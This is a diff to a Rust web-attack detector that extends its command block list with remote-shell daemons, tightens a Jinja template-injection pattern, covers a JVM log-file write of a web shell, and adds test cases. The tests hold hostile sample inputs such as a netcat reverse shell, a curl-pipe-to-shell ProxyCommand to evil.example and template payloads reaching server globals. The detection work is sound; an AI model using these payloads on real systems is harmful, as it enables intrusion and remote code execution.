@@ -49,6 +49,7 @@ const STRONG_COMMANDS: &[&str] = &[
     "deluser",
     "dmesg",
     "docker",
+    "dropbear",
     "egrep",
     "fgrep",
     "fping",
@@ -142,6 +143,7 @@ const STRONG_COMMANDS: &[&str] = &[
     "tcpdump",
     "tcsh",
     "telnet",
+    "telnetd",
     "tftp",
     "traceroute",
     "tracert",
@@ -151,6 +153,7 @@ const STRONG_COMMANDS: &[&str] = &[
     "useradd",
     "userdel",
     "usermod",
+    "utelnetd",
     "vipw",
     "visudo",
     "wget",
@@ -354,7 +357,7 @@ impl Rce {
             ),
             (
                 RCE_SSTI,
-                r"\{\{[^}]{0,120}\b(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|range\.constructor)\b[^}]{0,120}\}\}",
+                r"\{\{(?:\s*|[^}]{0,120}[^.a-z0-9_])(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|range\.constructor)\b[^}]{0,120}\}\}",
             ),
             // Statements that reach outside the template (Tornado's `import`, Django's `load`
             // and `debug`); `for`, `extends`, `set` and the like are every template's own
@@ -423,10 +426,11 @@ impl Rce {
                 r"\b_self\s*\.\s*env\s*\.|registerundefinedfiltercallback",
             ),
             // Options that make curl or wget write what they fetch to a script the web
-            // server runs (`a.pdf" -o C:\inetpub\wwwroot\shell.aspx "https://…`).
+            // server runs (`a.pdf" -o C:\inetpub\wwwroot\shell.aspx "https://…`), and the
+            // JVM's `vmLog output=` (through Jolokia's DiagnosticCommand) writing its log there.
             (
                 RCE_ARGUMENT_INJECTION,
-                r#"(?:^|\s)(?:-o|--output|--output-document)(?:\s+|\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
+                r#"(?:^|\s)(?:-o|--output|--output-document|output)(?:\s+|\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
             ),
             // Options that make git, ssh, tar or rsync run a command of the caller's choosing.
             (
@@ -1492,6 +1496,7 @@ mod tests {
                 "-oProxyCommand=curl evil.example|sh",
                 "https://example.jp/a.pdf\u{FF02} -o C:\\inetpub\\wwwroot\\shell.aspx \u{FF02}https://evil.example/s",
                 "x --output=/var/www/html/s.php",
+                "output=/opt/activemq/webapps/admin/shell.jsp",
                 "@{[system \"touch /tmp/blns.fail\"]}",
                 "system 'cat /etc/hosts'",
                 "exec \"nc -e /bin/sh 10.0.0.1 4444\"",
@@ -1971,6 +1976,20 @@ mod tests {
         );
         let liquid = "{% for product in collections.all.products %}{{ product.title }}{% endfor %}";
         assert!(!hits(Kind::Value, "json:/value", liquid, 1).contains(&RCE_SSTI));
+        // Jinja's globals, not a Go template's fields of the dot.
+        for (v, want) in [
+            ("{{ request.application.__globals__ }}", true),
+            ("{{config.items()}}", true),
+            ("{{ x|attr(request) }}", true),
+            ("line_format \"{{.remote_addr}} {{.request}}\"", false),
+            ("{{ .Values.config }}", false),
+        ] {
+            assert_eq!(
+                hits(Kind::Value, "query:query", v, 1).contains(&RCE_SSTI),
+                want,
+                "{v}"
+            );
+        }
         assert!(hits(Kind::Value, "json:/value", liquid, 2).contains(&RCE_SSTI_LOOSE));
         assert!(
             hits(
